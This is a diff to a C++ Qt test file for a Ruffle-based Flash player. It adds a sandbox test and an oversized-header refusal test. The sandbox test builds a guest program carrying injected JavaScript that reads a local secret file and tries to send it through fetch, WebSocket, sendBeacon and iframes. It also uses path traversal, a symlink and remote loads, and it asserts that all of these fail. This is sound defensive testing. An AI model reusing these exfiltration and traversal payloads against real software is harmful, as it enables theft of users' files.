@@ -11,6 +11,7 @@
 #include <QLabel>
 #include <QProcess>
 #include <QSignalSpy>
+#include <QTcpServer>
 #include <QTemporaryDir>
 #include <QWebEnginePage>
 #include <QWebEngineView>
@@ -43,9 +44,12 @@ class TestEngine : public QObject {
 
     // A generated program; options as on the generator's command line.
     QString movie(const QString& name, const QString& options = {}) {
+        return movie(name, options.split(u' ', Qt::SkipEmptyParts));
+    }
+    QString movie(const QString& name, const QStringList& options) {
         const QString path = m_dir.filePath(name);
         QProcess gen;
-        gen.start(QStringLiteral(KIBU_SWFGEN), options.split(u' ', Qt::SkipEmptyParts) << path);
+        gen.start(QStringLiteral(KIBU_SWFGEN), options + QStringList{path});
         if (!gen.waitForFinished(30000) || gen.exitCode() != 0)
             qWarning() << "generator failed:" << gen.readAllStandardError();
         return path;
@@ -431,13 +435,12 @@ private slots:
             movie(QStringLiteral("as3%1.swf").arg(kind),
                   QStringLiteral("--version 10 --class Main %1 --frames 30 --rate 20").arg(kind)));
         QCOMPARE(m_player->totalFrames(), 30);
-        if (kind == QLatin1String("--throws")) {
+        // Exact until the rewrite (on a worker thread) or the probe fails.
+        QVERIFY(m_player->hasExactFrames());
+        if (kind == QLatin1String("--throws"))
             m_player->play();
-            QVERIFY(m_player->hasExactFrames());
-            QVERIFY(waitFor([this] { return !m_player->hasExactFrames(); }, 9000));
-            m_player->gotoFrame(0);
-        }
-        QVERIFY(!m_player->hasExactFrames());
+        QVERIFY(waitFor([this] { return !m_player->hasExactFrames(); }, 9000));
+        m_player->gotoFrame(0);
         m_player->play();
         QVERIFY(m_player->playing());
         QTest::qWait(500);
@@ -505,6 +508,111 @@ private slots:
         pageValue(
             QStringLiteral("document.documentElement.dispatchEvent(new PointerEvent("
                            "'pointerup', {bubbles: true})); document.documentElement.click();"));
+    }
+
+    // A program is a guest: it loads what lies in its own folder and nothing
+    // else. Its script for the page never runs, its loaders reach no other
+    // file and no address, its links lead nowhere; and script in the page,
+    // were any of its own to run, would read no file and reach no address.
+    void aProgramReachesOnlyItsOwnFolder() {
+        QTcpServer listener;
+        QVERIFY(listener.listen(QHostAddress::LocalHost));
+        int heard = 0;
+        connect(&listener, &QTcpServer::newConnection, this, [&] { ++heard; });
+        const QString away = QStringLiteral("http://127.0.0.1:%1/").arg(listener.serverPort());
+        QVERIFY(QDir(m_dir.path()).mkpath(QStringLiteral("guest/sub")));
+        QVERIFY(QDir(m_dir.path()).mkpath(QStringLiteral("home")));
+        const QString secret = m_dir.filePath(QStringLiteral("home/secret.txt"));
+        QFile file(secret);
+        QVERIFY(file.open(QIODevice::WriteOnly) && file.write("secret=stolen") > 0);
+        file.close();
+        const QString secretUrl = QUrl::fromLocalFile(secret).toString();
+        movie(QStringLiteral("home/outside.swf"), QStringLiteral("--action 1:trace=outside"));
+        movie(QStringLiteral("guest/sub/sibling.swf"), QStringLiteral("--action 1:trace=sibling"));
+        // Its own folder holds a link to the secret, too.
+        QVERIFY(QFile::link(secret, m_dir.filePath(QStringLiteral("guest/link.txt"))));
+        const QString script =
+            QStringLiteral(
+                "(function(){document.title='escaped';var s='';try{var x=new XMLHttpRequest();"
+                "x.open('GET','%2',false);x.send();s=x.responseText}catch(e){}"
+                "try{new WebSocket('ws'+'%1'.slice(4)+'ws?'+s)}catch(e){}"
+                "fetch('%1fetch').catch(function(){});navigator.sendBeacon('%1beacon',s);"
+                "new Image().src='%1img';var f=document.createElement('iframe');f.src='%1frame';"
+                "document.body.appendChild(f);window.open('%1open');})")
+                .arg(away, secretUrl);
+        QStringList options{QStringLiteral("--frames"), QStringLiteral("60")};
+        for (const QString& action :
+             {QStringLiteral("call=") + script, QStringLiteral("load=javascript:") + script + u',',
+              QStringLiteral("load=%1nav,_self").arg(away),
+              QStringLiteral("load=%1window,_blank").arg(away), QStringLiteral("set=secret,none"),
+              QStringLiteral("post=%1form,_self").arg(away),
+              QStringLiteral("load-vars=") + secretUrl,
+              QStringLiteral("load-vars=../home/secret.txt"), QStringLiteral("load-vars=link.txt"),
+              QStringLiteral("load-vars=./"), QStringLiteral("new=LoadVars.load,%1vars").arg(away),
+              QStringLiteral("new=XMLSocket.connect,127.0.0.1,%1").arg(listener.serverPort()),
+              QStringLiteral("new=Sound.loadSound,%1sound.mp3,true").arg(away),
+              QStringLiteral("load=%1movie.swf,_level3").arg(away),
+              QStringLiteral("load=../home/outside.swf,_level2"),
+              QStringLiteral("load=sub/sibling.swf,_level1")})
+            options << QStringLiteral("--action") << QStringLiteral("1:") + action;
+        options << QStringLiteral("--action") << QStringLiteral("20:trace-expr=_root.secret")
+                << QStringLiteral("--action") << QStringLiteral("20:trace=done");
+        const QString program = movie(QStringLiteral("guest/guest.swf"), options);
+
+        QStringList traces;
+        auto connection = connect(m_player, &RuffleFlashPlayer::traced, this,
+                                  [&traces](const QString& m) { traces.append(m); });
+        m_player->setTraceForwarding(true);
+        m_player->setMovie(program);
+        m_player->play();
+        QVERIFY2(
+            waitFor([&] { return traces.contains("done") && traces.contains("sibling"); }, 10000),
+            qPrintable(traces.join(u',')));
+        disconnect(connection);
+        m_player->setTraceForwarding(false);
+        QVERIFY(!traces.contains("outside"));
+        QCOMPARE(traces.at(traces.indexOf("done") - 1), QStringLiteral("none"));
+        QCOMPARE(pageValue(QStringLiteral("document.title")).toString(),
+                 QStringLiteral("Kibu播放器"));
+        QVERIFY(m_player->playing());
+
+        // Below the page's own policy: its script reads no file outside.
+        const QString read = QStringLiteral(
+            "(() => { try { const x = new XMLHttpRequest(); x.open('GET', '%1', false); x.send();"
+            " return x.responseText; } catch (e) { return 'refused'; } })()");
+        QCOMPARE(pageValue(read.arg(secretUrl)).toString(), QStringLiteral("refused"));
+        QCOMPARE(pageValue(read.arg(QUrl::fromLocalFile(program).toString())).toString().left(3),
+                 QStringLiteral("FWS"));
+        pageValue(QStringLiteral("new WebSocket('ws://127.0.0.1:%1/'); fetch('%2page'); 1")
+                      .arg(listener.serverPort())
+                      .arg(away));
+        // Nothing is to come: a second for anything still on its way.
+        QTest::qWait(1000);
+        QCOMPARE(heard, 0);
+    }
+
+    // A program whose header claims more than the player takes is refused
+    // on its header alone, and the player area says why; the next program
+    // plays.
+    void aProgramTooLargeIsRefused() {
+        const QString path = movie(QStringLiteral("huge.swf"), QStringLiteral("--compress zlib"));
+        QFile file(path);
+        QVERIFY(file.open(QIODevice::ReadWrite) && file.seek(4) &&
+                file.write("\xff\xff\xff\xff") == 4);
+        file.close();
+        m_player->setMovie(path);
+        QCOMPARE(m_player->refusal(), RuffleFlashPlayer::kTooLarge);
+        QCOMPARE(m_player->totalFrames(), 0);
+        const auto* message = m_player->widget()->findChild<QLabel*>();
+        QVERIFY(message->isVisible());
+        QCOMPARE(message->text(), RuffleFlashPlayer::kTooLarge);
+        m_player->play();
+        QVERIFY(!m_player->playing());
+
+        m_player->setMovie(movie(QStringLiteral("small.swf")));
+        QVERIFY(m_player->refusal().isEmpty());
+        QVERIFY(!message->isVisible());
+        QVERIFY(waitFor([this] { return m_player->playing(); }, 8000));
     }
 
     void noProgramIsNotPlaying() {
